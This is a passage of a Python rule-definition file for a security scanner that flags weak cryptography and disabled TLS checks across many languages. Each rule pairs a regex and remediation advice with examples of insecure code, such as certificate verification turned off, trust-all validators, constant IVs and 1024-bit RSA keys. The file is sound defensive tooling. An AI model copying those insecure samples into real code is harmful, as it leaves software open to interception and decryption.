"""Crypto, insecure-pattern and hidden-behaviour rules (authoring source for rulegen.py).

R(category, id, description, severity, cwe, regex, keywords, languages, remediation,
  pos=[...], neg=[...]) where pos/neg items are "text" or ("text", "path").  A text without a
path is scanned as a file of the rule's first language.

prefilter= (optional) is what Vectorscan looks for instead of the regex: a tail of it that
every match ends with (docs/rules.md, "prefilter").  Give one when the regex starts with
common words (token|secret|key ... then up to 80 bytes) and ends with the rare part.
"""

EXT = {"python": "app.py", "javascript": "app.js", "typescript": "app.ts", "java": "App.java", "go": "main.go",
       "csharp": "Program.cs", "ruby": "app.rb", "php": "index.php", "c": "main.c", "cpp": "main.cc", "shell": "install.sh"}

FW = {
    "crypto": ["SOC2:CC6.7", "ISO27001:A.8.24", "NIST-800-53:SC-13", "OWASP-ASVS:V6.2"],
    "insecure": ["SOC2:CC8.1", "ISO27001:A.8.28", "NIST-800-53:SI-10", "OWASP-ASVS:V5.3"],
    "behaviour": ["SOC2:CC7.2", "ISO27001:A.8.7", "NIST-800-53:SI-3", "SLSA:build-integrity"],
}
_RULES = {"crypto": [], "insecure": [], "behaviour": []}
LOCAL_HOSTS = [r"^(?:localhost|127\.[0-9.]+|0\.0\.0\.0|::1|host\.docker\.internal)$",
               r"(?:^|\.)(?:localhost|local|internal|test|example|invalid|svc\.cluster\.local)$",
               r"^(?:www\.)?example\.(?:com|org|net)$"]


def R(cat, id, desc, sev, cwe, regex, keywords, langs, rem, pos, neg, paths=None, egress=None, allow=None, secret_group=None,
      prefilter=None):
    def ex(items, match):
        out = []
        for it in items:
            text, path = (it if isinstance(it, tuple) else (it, None))
            if path is None:
                path = EXT[langs[0]] if langs else "example.txt"
            out.append(dict(text=text, path=path, match=match))
        return out
    _RULES[cat].append(dict(id=id, description=desc, category=cat, severity=sev, cwe=cwe, regex=regex,
                            prefilter=prefilter, secret_group=secret_group, keywords=keywords or None, languages=langs or None, paths=paths,
                            egress=egress, placeholder_check=None, remediation=rem, frameworks=FW[cat],
                            allowlist=allow or {}, examples=ex(pos, True) + ex(neg, False)))
    if secret_group is None and "(" in regex.replace("(?", "").replace("\\(", ""):
        _RULES[cat][-1]["secret_group"] = 0


def rules(cat):
    return _RULES[cat]


C = "crypto"
HASH_REM = "Use SHA-256 or better for integrity, and a password KDF (Argon2id, scrypt, bcrypt, PBKDF2) for passwords."
CIPHER_REM = "Use AES-GCM or ChaCha20-Poly1305 from a maintained library; DES, 3DES, RC2, RC4 and Blowfish are broken or deprecated."
ECB_REM = "ECB leaks plaintext structure; use an authenticated mode (GCM, CCM, ChaCha20-Poly1305) with a fresh random nonce."
IV_REM = "Generate a fresh random IV/nonce per message with the platform CSPRNG and store it beside the ciphertext."
RAND_REM = "Use the CSPRNG for security values: secrets (Python), crypto.randomBytes/randomUUID (Node), SecureRandom (Java/Ruby), crypto/rand (Go), RandomNumberGenerator (.NET), random_bytes (PHP), RAND_bytes/getrandom (C)."
TLS_REM = "Keep certificate and host-name verification on; trust a private CA explicitly instead of disabling checks."
RSA_REM = "Use RSA keys of at least 2048 bits (3072 for long-lived keys) or move to Ed25519 / P-256."

# ------------------------------------------------------------ Python
R(C, "py-weak-hash", "MD5/SHA-1 (or MD4) via hashlib, not marked usedforsecurity=False", "medium", "CWE-328",
  r"\bhashlib\.(?:md5|sha1|new\([ \t]*[\"'](?:md4|md5|sha1)[\"'])", ["hashlib"], ["python"], HASH_REM,
  ['digest = hashlib.md5(password.encode()).hexdigest()', 'h = hashlib.new("sha1", token)'],
  ['etag = hashlib.md5(body, usedforsecurity=False).hexdigest()', 'digest = hashlib.sha256(data).hexdigest()'],
  allow={"regexes": [r"usedforsecurity[ \t]*=[ \t]*False"], "regex_target": "line"})
R(C, "py-weak-cipher", "DES/3DES/RC4/RC2/Blowfish cipher in PyCryptodome or cryptography", "high", "CWE-327",
  r"\b(?:DES3?|ARC4|ARC2|Blowfish|CAST|XOR)\.new\(|\balgorithms\.(?:TripleDES|ARC4|Blowfish|IDEA|CAST5|SEED)\(", ["new(", "algorithms."],
  ["python"], CIPHER_REM, ['cipher = DES3.new(key, DES3.MODE_CBC, iv)', 'c = Cipher(algorithms.ARC4(key), mode=None)'],
  ['cipher = AES.new(key, AES.MODE_GCM)', 'c = Cipher(algorithms.AES(key), modes.GCM(iv))'])
R(C, "py-ecb-mode", "ECB block-cipher mode", "high", "CWE-327", r"\bmodes\.ECB\(|\bAES\.MODE_ECB\b|\bMODE_ECB\b", ["ECB"], ["python"],
  ECB_REM, ['cipher = AES.new(key, AES.MODE_ECB)', 'Cipher(algorithms.AES(k), modes.ECB())'], ['cipher = AES.new(key, AES.MODE_GCM, nonce=nonce)'])
R(C, "py-static-iv", "constant IV / nonce literal passed to a cipher", "high", "CWE-329",
  r"\bmodes\.(?:CBC|CFB|OFB|CTR|GCM)\([ \t]*b[\"']|\bAES\.new\([^)\n]{0,80}MODE_(?:CBC|CFB|OFB|CTR|GCM|EAX)[ \t]*,[ \t]*(?:(?:iv|IV|nonce)[ \t]*=[ \t]*)?b[\"']",
  ["modes.", "AES.new"], ["python"], IV_REM,
  ['cipher = AES.new(key, AES.MODE_CBC, b"0123456789abcdef")', 'Cipher(algorithms.AES(k), modes.CBC(b"\\x00" * 16))'],
  ['cipher = AES.new(key, AES.MODE_CBC, iv=os.urandom(16))', 'Cipher(algorithms.AES(k), modes.CBC(iv))'])
R(C, "py-insecure-random-token", "random module used for a token, password, key or nonce", "medium", "CWE-338",
  r"(?i)(?:token|passw|secret|nonce|otp|salt|session|api_?key|reset|csrf|invite)\w*[ \t]*=[^=\n][^\n]{0,80}\brandom\.(?:random|randint|choice|choices|getrandbits|randrange|sample)\(",
  ["random."], ["python"], RAND_REM,
  ["reset_token = ''.join(random.choice(string.ascii_letters) for _ in range(32))", 'otp = random.randint(100000, 999999)'],
  ['delay = random.uniform(0.5, 1.5)', 'reset_token = secrets.token_urlsafe(32)', 'sample = random.choice(rows)'],
  prefilter=r'(?i)\brandom\.(?:random|randint|choice|choices|getrandbits|randrange|sample)\(')
R(C, "py-tls-verify-disabled", "TLS certificate verification disabled (verify=False)", "high", "CWE-295",
  r"\b(?:requests|httpx|session|client|s|http)\.[a-z_]+\([^\n]{0,200}\bverify[ \t]*=[ \t]*False\b|\bhttpx\.(?:Client|AsyncClient)\([^\n]{0,120}verify[ \t]*=[ \t]*False",
  ["verify"], ["python"], TLS_REM,
  ['r = requests.get(url, timeout=10, verify=False)', 'client = httpx.Client(verify=False)'],
  ['r = requests.get(url, timeout=10, verify=True)', 'r = requests.get(url, verify="/etc/ssl/corp-ca.pem")'],
  prefilter=r'verify[ \t]*=[ \t]*False')
R(C, "py-ssl-unverified-context", "ssl context without certificate or host-name checks", "high", "CWE-295",
  r"\bssl\._create_unverified_context\(|\b(?:cert_reqs|verify_mode)[ \t]*=[ \t]*(?:ssl\.)?CERT_NONE\b|\bcheck_hostname[ \t]*=[ \t]*False\b",
  ["ssl", "CERT_NONE", "check_hostname"], ["python"], TLS_REM,
  ['ctx = ssl._create_unverified_context()', 'ctx.verify_mode = ssl.CERT_NONE'], ['ctx = ssl.create_default_context()', 'ctx.verify_mode = ssl.CERT_REQUIRED'])
R(C, "py-weak-rsa-key", "RSA/DSA key shorter than 2048 bits", "high", "CWE-326",
  r"\b(?:rsa|dsa)\.generate_private_key\([^)\n]{0,80}key_size[ \t]*=[ \t]*(?:256|384|512|768|1024|1536)\b|\b(?:RSA|DSA)\.generate\([ \t]*(?:256|384|512|768|1024|1536)\b",
  ["generate"], ["python"], RSA_REM,
  ['key = rsa.generate_private_key(public_exponent=65537, key_size=1024)', 'key = RSA.generate(1024)'],
  ['key = rsa.generate_private_key(public_exponent=65537, key_size=3072)', 'key = RSA.generate(2048)'])
R(C, "py-weak-tls-version", "SSLv2/SSLv3/TLS 1.0/1.1 protocol pinned", "medium", "CWE-327",
  r"\bssl\.PROTOCOL_(?:SSLv2|SSLv3|SSLv23|TLSv1|TLSv1_1)\b|\bTLSVersion\.(?:SSLv3|TLSv1|TLSv1_1)\b", ["PROTOCOL_", "TLSVersion"], ["python"],
  "Require TLS 1.2 or later (ssl.TLSVersion.TLSv1_2 as minimum_version).",
  ['ctx = ssl.SSLContext(ssl.PROTOCOL_TLSv1)', 'ctx.minimum_version = ssl.TLSVersion.TLSv1_1'],
  ['ctx.minimum_version = ssl.TLSVersion.TLSv1_2', 'ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)'])

# ------------------------------------------------------------ JavaScript / TypeScript
JS = ["javascript", "typescript"]
R(C, "js-weak-hash", "MD5/SHA-1 via Node crypto.createHash", "medium", "CWE-328",
  r"(?i)\bcreateHash\([ \t]*[\"'\x60](?:md4|md5|sha1|ripemd160)[\"'\x60]", ["createHash"], JS, HASH_REM,
  ["const h = crypto.createHash('md5').update(password).digest('hex');", ("const sig = createHash(\"sha1\").update(body).digest(\"hex\");", "sign.ts")],
  ["const h = crypto.createHash('sha256').update(body).digest('hex');"])
R(C, "js-weak-cipher", "DES/3DES/RC4/Blowfish/ECB cipher in Node crypto", "high", "CWE-327",
  r"(?i)\bcreate(?:Cipher|Decipher)(?:iv)?\([ \t]*[\"'\x60](?:des|des3|des-ede3?|des-ede3?-cbc|des-cbc|rc4|rc2|rc2-cbc|bf|bf-cbc|blowfish|aes-(?:128|192|256)-ecb)[\"'\x60]",
  ["createCipher", "createDecipher"], JS, CIPHER_REM,
  ["const c = crypto.createCipheriv('des-ede3-cbc', key, iv);", "const c = crypto.createCipheriv('aes-128-ecb', key, null);"],
  ["const c = crypto.createCipheriv('aes-256-gcm', key, iv);"])
R(C, "js-deprecated-create-cipher", "crypto.createCipher (derives key and IV with MD5, no IV)", "high", "CWE-327",
  r"\bcrypto\.create(?:Cipher|Decipher)\(", ["createCipher", "createDecipher"], JS, IV_REM,
  ["const c = crypto.createCipher('aes192', password);"], ["const c = crypto.createCipheriv('aes-256-gcm', key, iv);"])
R(C, "js-cryptojs-weak", "CryptoJS MD5/SHA1/DES/TripleDES/RC4 or ECB mode", "high", "CWE-327",
  r"\bCryptoJS\.(?:MD5|SHA1|DES|TripleDES|RC4|RC4Drop|Rabbit)\b|\bCryptoJS\.mode\.ECB\b", ["CryptoJS"], JS, CIPHER_REM,
  ["const enc = CryptoJS.TripleDES.encrypt(msg, key).toString();", "const h = CryptoJS.MD5(password).toString();"],
  ["const enc = CryptoJS.AES.encrypt(msg, key, { mode: CryptoJS.mode.GCM });", "const h = CryptoJS.SHA256(body).toString();"])
R(C, "js-math-random-token", "Math.random used for a token, password, key or id", "medium", "CWE-338",
  r"(?i)(?:token|passw|secret|nonce|otp|salt|session|api_?key|reset|csrf|invite)\w*[\"']?[ \t]*[=:][^=\n][^\n]{0,80}\bMath\.random\(\)",
  ["Math.random"], JS, RAND_REM,
  ["const resetToken = Math.random().toString(36).slice(2);", "  sessionId: Math.floor(Math.random() * 1e12).toString(16),"],
  ["const jitter = Math.random() * 100;", "const resetToken = crypto.randomBytes(32).toString('hex');"],
  prefilter=r'(?i)\bMath\.random\(\)')
R(C, "js-tls-reject-unauthorized", "TLS verification disabled (rejectUnauthorized: false / NODE_TLS_REJECT_UNAUTHORIZED=0)", "high", "CWE-295",
  r"\brejectUnauthorized[\"']?[ \t]*:[ \t]*false\b|\bNODE_TLS_REJECT_UNAUTHORIZED[\"'\]]*[ \t]*=[ \t]*[\"']?0\b", ["rejectUnauthorized", "NODE_TLS_REJECT_UNAUTHORIZED"],
  JS + ["shell"], TLS_REM,
  ["const agent = new https.Agent({ rejectUnauthorized: false });", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
   ("export NODE_TLS_REJECT_UNAUTHORIZED=0", "run.sh")],
  ["const agent = new https.Agent({ rejectUnauthorized: true, ca });"])
R(C, "js-pseudo-random-bytes", "crypto.pseudoRandomBytes (not cryptographically strong)", "medium", "CWE-338",
  r"\bpseudoRandomBytes\(", ["pseudoRandomBytes"], JS, RAND_REM, ["const id = crypto.pseudoRandomBytes(16).toString('hex');"],
  ["const id = crypto.randomBytes(16).toString('hex');"])

# ------------------------------------------------------------ Java
R(C, "java-weak-hash", "MessageDigest MD2/MD4/MD5/SHA-1", "medium", "CWE-328",
  r"(?i)MessageDigest\.getInstance\([ \t]*\"(?:md2|md4|md5|sha-?1|sha)\"", ["MessageDigest"], ["java"], HASH_REM,
  ['MessageDigest md = MessageDigest.getInstance("MD5");', 'var md = MessageDigest.getInstance("SHA-1");'],
  ['MessageDigest md = MessageDigest.getInstance("SHA-256");'])
R(C, "java-weak-cipher", "DES/3DES/RC2/RC4/Blowfish Cipher", "high", "CWE-327",
  r"(?i)Cipher\.getInstance\([ \t]*\"(?:des|desede|tripledes|rc2|rc4|arcfour|blowfish)(?:/[^\"\n]*)?\"", ["Cipher.getInstance"], ["java"], CIPHER_REM,
  ['Cipher c = Cipher.getInstance("DESede/CBC/PKCS5Padding");', 'Cipher c = Cipher.getInstance("RC4");'],
  ['Cipher c = Cipher.getInstance("AES/GCM/NoPadding");'])
R(C, "java-ecb-mode", "AES in ECB mode (explicit, or the bare \"AES\" default)", "high", "CWE-327",
  r"Cipher\.getInstance\([ \t]*\"(?:AES|[A-Za-z0-9]+/ECB/[^\"\n]*)\"", ["Cipher.getInstance"], ["java"], ECB_REM,
  ['Cipher c = Cipher.getInstance("AES");', 'Cipher c = Cipher.getInstance("AES/ECB/PKCS5Padding");'],
  ['Cipher c = Cipher.getInstance("AES/GCM/NoPadding");'])
R(C, "java-static-iv", "constant IV (zero array or string literal) in IvParameterSpec/GCMParameterSpec", "high", "CWE-329",
  r"new (?:IvParameterSpec|GCMParameterSpec)\([^)\n]{0,20}(?:new byte\[[ \t]*[0-9]*[ \t]*\]|\"[^\"\n]*\"\.getBytes)",
  ["ParameterSpec"], ["java"], IV_REM,
  ['IvParameterSpec iv = new IvParameterSpec(new byte[16]);', 'IvParameterSpec iv = new IvParameterSpec("0123456789abcdef".getBytes());'],
  ['IvParameterSpec iv = new IvParameterSpec(ivBytes);'])
R(C, "java-insecure-random", "java.util.Random / Math.random for a token, password, key or nonce", "medium", "CWE-338",
  r"(?i)(?:token|passw|secret|nonce|otp|salt|session|apikey|reset|code)\w*[ \t]*=[^=\n][^\n]{0,80}(?:new (?:java\.util\.)?Random\(|Math\.random\(\))",
  ["Random"], ["java"], RAND_REM,
  ['String token = Long.toHexString(new Random().nextLong());', 'int resetCode = (int) (Math.random() * 1000000);'],
  ['byte[] token = new byte[32]; new SecureRandom().nextBytes(token);', 'int jitter = new Random().nextInt(100);'],
  prefilter=r'(?i)(?:new (?:java\.util\.)?Random\(|Math\.random\(\))')
R(C, "java-trust-all", "trust-all TrustManager / host-name verifier", "high", "CWE-295",
  r"\b(?:TrustAllCerts|trustAllCerts|TrustAllStrategy|TrustSelfSignedStrategy|NoopHostnameVerifier|ALLOW_ALL_HOSTNAME_VERIFIER)\b|set(?:Default|SSL)?HostnameVerifier\([^\n]{0,60}->[ \t]*true",
  ["trust", "HostnameVerifier"], ["java"], TLS_REM,
  ['sc.init(null, trustAllCerts, new SecureRandom());', 'conn.setHostnameVerifier((hostname, session) -> true);',
   'HttpClients.custom().setSSLHostnameVerifier(NoopHostnameVerifier.INSTANCE).build();'],
  ['sc.init(null, tmf.getTrustManagers(), new SecureRandom());'])
R(C, "java-weak-rsa-key", "KeyPairGenerator initialised with fewer than 2048 bits", "high", "CWE-326",
  r"\b[A-Za-z_]\w*\.initialize\([ \t]*(?:256|384|512|768|1024|1536)[ \t]*[,)]", ["initialize"], ["java"], RSA_REM,
  ['kpg.initialize(1024);'], ['kpg.initialize(3072);'])

# ------------------------------------------------------------ Go
R(C, "go-weak-hash", "crypto/md5 or crypto/sha1 used", "medium", "CWE-328", r"\b(?:md5|sha1)\.(?:New|Sum)\(", ["md5.", "sha1."], ["go"], HASH_REM,
  ['sum := md5.Sum([]byte(password))', 'h := sha1.New()'], ['sum := sha256.Sum256(data)'])
R(C, "go-weak-cipher", "DES/3DES/RC4 cipher", "high", "CWE-327", r"\b(?:des\.NewCipher|des\.NewTripleDESCipher|rc4\.NewCipher)\(",
  ["des.", "rc4."], ["go"], CIPHER_REM, ['block, err := des.NewTripleDESCipher(key)', 'c, _ := rc4.NewCipher(key)'],
  ['block, err := aes.NewCipher(key)'])
R(C, "go-insecure-skip-verify", "tls.Config InsecureSkipVerify: true", "high", "CWE-295", r"\bInsecureSkipVerify[ \t]*:[ \t]*true\b",
  ["InsecureSkipVerify"], ["go"], TLS_REM, ['tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}'],
  ['cfg := &tls.Config{InsecureSkipVerify: false, MinVersion: tls.VersionTLS12}'])
R(C, "go-math-rand-token", "math/rand used for a token, password, key or nonce", "medium", "CWE-338",
  r"(?i)(?:token|passw|secret|nonce|otp|salt|session|key|reset)\w*(?:\[[^\]\n]*\])?[ \t]*:?=[^=\n][^\n]{0,80}\brand\.(?:Int|Intn|Int31|Int31n|Int63|Int63n|Uint32|Uint64|Read)\(",
  ["rand."], ["go"], RAND_REM, ['token := fmt.Sprintf("%x", rand.Int63())', 'resetCode := rand.Intn(1000000)'],
  ['delay := time.Duration(rand.Intn(100)) * time.Millisecond', 'token := make([]byte, 32); _, err := crand.Reader.Read(token)'],
  prefilter=r'(?i)\brand\.(?:Int|Intn|Int31|Int31n|Int63|Int63n|Uint32|Uint64|Read)\(')
R(C, "go-weak-rsa-key", "rsa.GenerateKey with fewer than 2048 bits", "high", "CWE-326",
  r"\brsa\.GenerateKey\([^,\n]{1,60},[ \t]*(?:256|384|512|768|1024|1536)[ \t]*\)", ["rsa.GenerateKey"], ["go"], RSA_REM,
  ['key, err := rsa.GenerateKey(rand.Reader, 1024)'], ['key, err := rsa.GenerateKey(rand.Reader, 4096)'])
R(C, "go-ssh-insecure-host-key", "ssh.InsecureIgnoreHostKey accepts any server key", "high", "CWE-322",
  r"\bssh\.InsecureIgnoreHostKey\(\)", ["InsecureIgnoreHostKey"], ["go"], "Pin the server's host key (ssh.FixedHostKey or knownhosts).",
  ['cfg := &ssh.ClientConfig{User: "deploy", HostKeyCallback: ssh.InsecureIgnoreHostKey()}'], ['HostKeyCallback: knownhosts.New(path),'])
R(C, "go-weak-tls-version", "tls.Config allows SSL 3.0 / TLS 1.0 / TLS 1.1", "medium", "CWE-327",
  r"\bMinVersion[ \t]*:[ \t]*tls\.Version(?:SSL30|TLS10|TLS11)\b", ["MinVersion"], ["go"], "Set MinVersion to tls.VersionTLS12 or later.",
  ['cfg := &tls.Config{MinVersion: tls.VersionTLS10}'], ['cfg := &tls.Config{MinVersion: tls.VersionTLS12}'])

# ------------------------------------------------------------ C#
R(C, "cs-weak-hash", "MD5/SHA1 in .NET", "medium", "CWE-328",
  r"\b(?:MD5|SHA1)(?:CryptoServiceProvider|Managed|Cng)?\.(?:Create|HashData)\(|\bnew (?:MD5|SHA1)(?:CryptoServiceProvider|Managed|Cng)\(",
  ["MD5", "SHA1"], ["csharp"], HASH_REM, ['using var md5 = MD5.Create();', 'var h = SHA1.HashData(bytes);'],
  ['using var sha = SHA256.Create();'])
R(C, "cs-weak-cipher", "DES/TripleDES/RC2 in .NET", "high", "CWE-327",
  r"\b(?:DES|TripleDES|RC2)\.Create\(|\bnew (?:DES|TripleDES|RC2)CryptoServiceProvider\(", ["DES", "RC2"], ["csharp"], CIPHER_REM,
  ['using var des = TripleDES.Create();', 'var rc2 = new RC2CryptoServiceProvider();'], ['using var aes = AesGcm(key, 16);'])
R(C, "cs-ecb-mode", "CipherMode.ECB / EncryptEcb", "high", "CWE-327", r"\bCipherMode\.ECB\b|\.(?:En|De)cryptEcb\(", ["ECB", "Ecb"], ["csharp"], ECB_REM,
  ['aes.Mode = CipherMode.ECB;', 'var ct = aes.EncryptEcb(data, PaddingMode.PKCS7);'], ['aes.Mode = CipherMode.CBC;'])
R(C, "cs-cert-validation-disabled", "server certificate validation callback that accepts everything", "high", "CWE-295",
  r"ServerCertificate(?:Custom)?ValidationCallback[ \t]*\+?=[^\n]{0,160}(?:=>[ \t]*true|DangerousAcceptAnyServerCertificateValidator)",
  ["CertificateValidationCallback", "CertificateCustomValidationCallback"], ["csharp"], TLS_REM,
  ['ServicePointManager.ServerCertificateValidationCallback += (s, cert, chain, errors) => true;',
   'handler.ServerCertificateCustomValidationCallback = HttpClientHandler.DangerousAcceptAnyServerCertificateValidator;'],
  ['handler.ServerCertificateCustomValidationCallback = (m, cert, chain, errors) => errors == SslPolicyErrors.None;'])
R(C, "cs-insecure-random", "System.Random used for a token, password, key or nonce", "medium", "CWE-338",
  r"(?i)(?:token|passw|secret|nonce|otp|salt|session|key|reset)\w*[ \t]*=[^=\n][^\n]{0,80}\bnew Random\(",
  ["Random"], ["csharp"], RAND_REM, ['var resetToken = new Random().Next().ToString("x8");'],
  ['var resetToken = Convert.ToHexString(RandomNumberGenerator.GetBytes(32));', 'var delay = new Random().Next(100);'],
  prefilter=r'(?i)\bnew Random\(')
R(C, "cs-weak-rsa-key", "RSA key shorter than 2048 bits in .NET", "high", "CWE-326",
  r"\bnew RSACryptoServiceProvider\([ \t]*(?:384|512|768|1024|1536)[ \t]*\)|\bRSA\.Create\([ \t]*(?:384|512|768|1024|1536)[ \t]*\)",
  ["RSA"], ["csharp"], RSA_REM, ['using var rsa = RSA.Create(1024);'], ['using var rsa = RSA.Create(3072);'])

# ------------------------------------------------------------ Ruby
R(C, "rb-weak-hash", "Digest::MD5 / SHA1 / OpenSSL::Digest MD5 / SHA1", "medium", "CWE-328",
  r"\b(?:Digest::(?:MD5|SHA1)|OpenSSL::Digest::(?:MD5|SHA1)|OpenSSL::Digest\.new\([ \t]*[\"'](?:md5|sha1|MD5|SHA1)[\"'])",
  ["Digest"], ["ruby"], HASH_REM, ['digest = Digest::MD5.hexdigest(password)', "OpenSSL::Digest.new('sha1')"],
  ['digest = Digest::SHA256.hexdigest(body)'])
R(C, "rb-weak-cipher", "OpenSSL::Cipher DES/3DES/RC4/RC2/Blowfish/ECB", "high", "CWE-327",
  r"(?i)OpenSSL::Cipher(?:::[A-Za-z0-9]+)?\.new\([ \t]*[\"'](?:des[^\"']*|rc4[^\"']*|rc2[^\"']*|bf[^\"']*|aes-(?:128|192|256)-ecb)[\"']",
  ["OpenSSL::Cipher"], ["ruby"], CIPHER_REM, ["cipher = OpenSSL::Cipher.new('des-ede3-cbc')", "OpenSSL::Cipher.new('aes-256-ecb')"],
  ["cipher = OpenSSL::Cipher.new('aes-256-gcm')"])
R(C, "rb-verify-none", "OpenSSL::SSL::VERIFY_NONE", "high", "CWE-295", r"\bOpenSSL::SSL::VERIFY_NONE\b", ["VERIFY_NONE"], ["ruby"], TLS_REM,
  ['http.verify_mode = OpenSSL::SSL::VERIFY_NONE'], ['http.verify_mode = OpenSSL::SSL::VERIFY_PEER'])
R(C, "rb-insecure-random", "Kernel#rand / Random used for a token, password, key or nonce", "medium", "CWE-338",
  r"(?i)(?:token|passw|secret|nonce|otp|salt|session|key|reset)\w*[ \t]*=[^=\n][^\n]{0,80}(?:\brand\(|\bRandom\.(?:rand|new)\b)",
  ["rand"], ["ruby"], RAND_REM, ["reset_token = rand(36**32).to_s(36)"], ["reset_token = SecureRandom.hex(32)", "delay = rand(5)"],
  prefilter=r'(?i)(?:\brand\(|\bRandom\.(?:rand|new)\b)')

# ------------------------------------------------------------ PHP
R(C, "php-weak-password-hash", "MD5/SHA-1/crypt for passwords or tokens", "high", "CWE-916",
  r"(?i)(?:pass(?:word|wd)?|pwd|token|secret)\w*[\"'\]]*[ \t]*=[^=\n][^\n]{0,60}\b(?:md5|sha1|crypt)\(|\b(?:md5|sha1)\([ \t]*\$(?:pass(?:word|wd)?|pwd)\b",
  ["md5", "sha1", "crypt"], ["php"], "Use password_hash()/password_verify() (bcrypt or Argon2id).",
  ['$hash = md5($password);', "$token = sha1(uniqid());"], ['$hash = password_hash($password, PASSWORD_ARGON2ID);', '$etag = md5($body);'],
  prefilter=r'(?i)\b(?:md5|sha1|crypt)\(|\$(?:pass(?:word|wd)?|pwd)\b')
R(C, "php-mcrypt", "mcrypt extension (removed in PHP 7.2, weak ciphers and modes)", "high", "CWE-327",
  r"\bmcrypt_(?:encrypt|decrypt|create_iv|module_open|generic)\(", ["mcrypt_"], ["php"], CIPHER_REM,
  ['$ct = mcrypt_encrypt(MCRYPT_RIJNDAEL_128, $key, $data, MCRYPT_MODE_ECB);'], ['$ct = sodium_crypto_secretbox($data, $nonce, $key);'])
R(C, "php-openssl-weak-cipher", "openssl_encrypt with DES/RC4/Blowfish or ECB", "high", "CWE-327",
  r"(?i)\bopenssl_(?:en|de)crypt\([^\n]{0,120}[\"'](?:des[a-z0-9\-]*|rc4[a-z0-9\-]*|rc2[a-z0-9\-]*|bf[a-z0-9\-]*|aes-(?:128|192|256)-ecb)[\"']",
  ["openssl_"], ["php"], CIPHER_REM, ["$ct = openssl_encrypt($data, 'des-ede3-cbc', $key, 0, $iv);", "$ct = openssl_encrypt($data, 'AES-128-ECB', $key);"],
  ["$ct = openssl_encrypt($data, 'aes-256-gcm', $key, OPENSSL_RAW_DATA, $iv, $tag);"])
R(C, "php-insecure-random", "rand/mt_rand/uniqid used for a token, password, key or nonce", "medium", "CWE-338",
  r"(?i)(?:token|passw|secret|nonce|otp|salt|session|key|reset)\w*[\"'\]]*[ \t]*=[^=\n][^\n]{0,60}\b(?:rand|mt_rand|uniqid|lcg_value|str_shuffle)\(",
  ["rand", "uniqid", "str_shuffle"], ["php"], RAND_REM, ['$resetToken = md5(uniqid(mt_rand(), true));', '$otp = mt_rand(100000, 999999);'],
  ['$resetToken = bin2hex(random_bytes(32));', '$delay = mt_rand(1, 5);'],
  prefilter=r'(?i)\b(?:rand|mt_rand|uniqid|lcg_value|str_shuffle)\(')
R(C, "php-curl-verify-disabled", "cURL peer/host verification switched off", "high", "CWE-295",
  r"\bCURLOPT_SSL_VERIFY(?:PEER|HOST)[ \t]*(?:,|=>)[ \t]*(?:0|false|FALSE)\b", ["CURLOPT_SSL_VERIFY"], ["php"], TLS_REM,
  ['curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, false);', "'curl' => [CURLOPT_SSL_VERIFYHOST => 0],"], ['curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, true);'])

# ------------------------------------------------------------ C / C++
CC = ["c", "cpp"]
R(C, "c-openssl-weak-hash", "OpenSSL MD4/MD5/SHA-1 digest", "medium", "CWE-328",
  r"\bEVP_(?:md2|md4|md5|md5_sha1|sha1|mdc2|ripemd160)\(\)|\b(?:MD4|MD5|SHA1)_Init\(|\b(?:MD4|MD5|SHA1)\([^;()\n]{1,80},[^;()\n]{1,80},",
  ["EVP_", "MD5", "MD4", "SHA1"], CC, HASH_REM,
  ['EVP_DigestInit_ex(ctx, EVP_md5(), NULL);', 'SHA1(buf, len, digest);', ('MD5_Init(&c);', "hash.cc")],
  ['EVP_DigestInit_ex(ctx, EVP_sha256(), NULL);', 'SHA256(buf, len, digest);'])
R(C, "c-openssl-weak-cipher", "OpenSSL DES/3DES/RC4/RC2/Blowfish/CAST5 cipher", "high", "CWE-327",
  r"\bEVP_(?:des|desx|rc4|rc2|bf|cast5|idea|seed)(?:_[a-z0-9_]+)?\(\)|\bDES_(?:set_key|set_key_checked|ecb_encrypt|ncbc_encrypt|ecb3_encrypt|ede3_cbc_encrypt)\(|\bRC4(?:_set_key)?\(",
  ["EVP_", "DES_", "RC4"], CC, CIPHER_REM, ['EVP_EncryptInit_ex(ctx, EVP_des_ede3_cbc(), NULL, key, iv);', 'RC4_set_key(&k, 16, key);'],
  ['EVP_EncryptInit_ex(ctx, EVP_aes_256_gcm(), NULL, key, iv);'])
R(C, "c-openssl-ecb", "OpenSSL AES in ECB mode", "high", "CWE-327", r"\bEVP_aes_(?:128|192|256)_ecb\(\)|\bAES_ecb_encrypt\(", ["ecb"], CC, ECB_REM,
  ['EVP_EncryptInit_ex(ctx, EVP_aes_128_ecb(), NULL, key, NULL);', 'AES_ecb_encrypt(in, out, &k, AES_ENCRYPT);'],
  ['EVP_EncryptInit_ex(ctx, EVP_aes_128_gcm(), NULL, key, iv);'])
R(C, "c-openssl-small-rsa", "RSA key generation with fewer than 2048 bits", "high", "CWE-326",
  r"\b(?:RSA_generate_key\([ \t]*|RSA_generate_key_ex\([^,;\n]{1,40},[ \t]*|EVP_PKEY_CTX_set_rsa_keygen_bits\([^,;\n]{1,40},[ \t]*|EVP_RSA_gen\([ \t]*)(?:256|384|512|768|1024|1536)[ \t]*[,)]",
  ["RSA_generate_key", "rsa_keygen_bits", "EVP_RSA_gen"], CC, RSA_REM,
  ['RSA *r = RSA_generate_key(1024, RSA_F4, NULL, NULL);', 'EVP_PKEY_CTX_set_rsa_keygen_bits(kctx, 1024);', 'RSA_generate_key_ex(rsa, 512, e, NULL);'],
  ['EVP_PKEY_CTX_set_rsa_keygen_bits(kctx, 3072);', 'RSA_generate_key_ex(rsa, bits, e, NULL);'])
R(C, "c-openssl-verify-none", "SSL_VERIFY_NONE on an OpenSSL context or connection", "high", "CWE-295",
  r"\bSSL(?:_CTX)?_set_verify\([^,;\n]{1,60},[ \t]*SSL_VERIFY_NONE\b", ["SSL_VERIFY_NONE"], CC, TLS_REM,
  ['SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);'], ['SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);'])
R(C, "c-curl-verify-disabled", "libcurl peer/host verification switched off", "high", "CWE-295",
